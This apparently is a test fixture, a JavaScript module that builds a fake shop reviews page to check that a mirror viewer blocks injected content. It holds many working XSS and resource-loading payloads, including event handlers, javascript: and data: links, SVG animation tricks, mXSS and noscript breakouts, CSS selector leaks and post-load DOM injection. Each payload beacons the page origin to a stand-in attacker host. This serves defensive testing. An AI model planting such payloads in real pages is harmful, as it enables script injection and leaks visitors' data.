/**
 * A page that wants to reach whoever looks at its mirror; for tests, in no menu.
 *
 * `?attacker=http://127.0.0.1:9000` is where everything here points. Whatever runs tells the
 * attacker `/ran/<what>`; whatever loads asks for `/load/<what>`. In the shopper's own browser some
 * of it happens, as on any page that was broken into; in a viewer's browser nothing may.
 */
import { make, show } from './page.js';

const attacker = new URLSearchParams(location.search).get('attacker') ?? 'https://attacker.invalid';
const load = (what) => `${attacker}/load/${what}`;
// Without a space, so that it fits where an attribute has no quotes.
const run = (what) =>
  `fetch('${attacker}/ran/${what}?o='+origin,{mode:'no-cors'}).catch(Object);try{top.pwned='${what}'}catch{}`;
const script = (what) => `<script>${run(what)}</script>`;

// Written as markup, because that is how such content gets into a page.
const MARKUP = `
  <h2>Reviews</h2>
  <p>Great tent! <img src="${load('image')}" srcset="${load('srcset')} 2x" alt="" onerror="${run('onerror')}" onload="${run('onload')}">
  <p onclick="${run('onclick')}" onmouseover="${run('onmouseover')}" style="background:url(${load('style')})">Point here</p>
  <a href="javascript:${run('link')}" ping="${load('ping')}">A link</a>
  <a href="data:text/html,${script('datalink')}" target="_top">Another</a>
  <svg width="40" height="40" onload="${run('svgload')}"><image href="${load('svgimage')}" width="40" height="40"/>
    <use href="${load('use.svg')}#a"/><a href="javascript:${run('svglink')}"><text y="20">x</text></a>
    <animate attributeName="href" values="javascript:${run('animate')}"/><set attributeName="onmouseover" to="${run('set')}"/>
    <foreignObject width="9" height="9"><iframe src="${load('foreign')}"></iframe></foreignObject><script>${run('svgscript')}</script></svg>
  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run('mxss')}&gt;"></table></mtext></math>
  <noscript><p title="</noscript><img src=x onerror=${run('noscript')}>"></noscript>
  <template>${script('template')}</template>
  <iframe src="${load('frame')}" title="frame"></iframe>
  <iframe srcdoc="&lt;script&gt;${run('srcdoc')}&lt;/script&gt;" title="srcdoc"></iframe>
  <iframe src="javascript:${run('framescript')}" title="script frame"></iframe>
  <object data="${load('object')}"></object><embed src="${load('embed')}">
  <video src="${load('video')}" poster="${load('poster')}" autoplay muted><track src="${load('track')}" default></video>
  <audio src="${load('audio')}" autoplay></audio>
  <picture><source srcset="${load('source')}"><img src="${load('picture')}" alt=""></picture>
  <form action="${load('form')}"><input name="q" autofocus onfocus="${run('autofocus')}"><input type="image" src="${load('imageinput')}" alt="" formaction="${load('formaction')}"><button>Send</button></form>
  <details open ontoggle="${run('ontoggle')}"><summary>More</summary>less</details>
  <marquee onstart="${run('onstart')}">Sale</marquee>
  <style>@import url(${load('import.css')});@font-face{font-family:spy;src:url(${load('font.woff2')})}
    .spied{font-family:spy;cursor:url(${load('cursor')}),auto;background:image-set(url(${load('imageset')}) 1x)}
    .spied::after{content:url(${load('content')})}input[value^="a"]{background:url(${load('leak-a')})}
    .spied{mask-image:url(${load('mask')})}</style>
  <p class="spied" id="spied">Set in somebody’s font</p>
  <p><code>&lt;/style&gt;&lt;script&gt;${run('text')}&lt;/script&gt;</code></p>`;

const HEAD = [
  ['meta', { 'http-equiv': 'refresh', content: `99999;url=${load('refresh')}` }],
  ['meta', { 'http-equiv': 'Content-Security-Policy-Report-Only', content: 'img-src none' }],
  ['link', { rel: 'prefetch', href: load('prefetch') }],
  [
    'link',
    { rel: 'preload', as: 'image', href: load('preload'), imagesrcset: load('imagesrcset') },
  ],
  ['link', { rel: 'dns-prefetch', href: attacker }],
  ['link', { rel: 'preconnect', href: attacker }],
  ['link', { rel: 'stylesheet', href: load('sheet.css') }],
  ['link', { rel: 'modulepreload', href: load('module.js') }],
  ['link', { rel: 'manifest', href: load('manifest.json') }],
  ['link', { rel: 'shortcut icon', href: load('icon') }],
];

/** Attacks that come after the page has loaded, as an attacker's script would make them. */
function later() {
  const place = document.querySelector('#later');
  place.innerHTML = `<img src="${load('later')}" onerror="${run('later')}"><div title="'><script>${run('latertitle')}</script>">later</div>`;
  const shadow = make('div', { id: 'shadow' });
  shadow.attachShadow({
    mode: 'open',
  }).innerHTML = `<style>:host{background:url(${load('host')})}</style><img src="${load('shadow')}" onerror="${run('shadow')}" alt="">`;
  const sheet = new CSSStyleSheet();
  sheet.replaceSync(`.spied{border-image:url(${load('adopted')}) 1}`);
  document.adoptedStyleSheets = [sheet];
  document.querySelector('style')?.sheet?.insertRule(`.spied{list-style:url(${load('rule')})}`);
  const link = document.querySelector('#later-link');
  link.setAttribute('href', `javascript:${run('laterlink')}`);
  link.setAttribute('onclick', run('lateronclick'));
  link.style.backgroundImage = `url(${load('laterstyle')})`;
  place.append(shadow, make('iframe', { src: load('laterframe'), title: 'later' }));
  document.title = `</title><script>${run('title')}</script>`;
  document.documentElement.dataset.later = 'done';
}

const place = make('section', { id: 'attacks' });
show(
  'Reviews',
  make('h1', {}, 'Reviews'),
  place,
  make('section', { id: 'later' }),
  make('a', { id: 'later-link', href: './' }, 'Home'),
);
place.innerHTML = MARKUP;
document.head.append(...HEAD.map(([name, props]) => make(name, props)));
document.documentElement.setAttribute('onpointermove', run('root'));
setTimeout(later, 500);
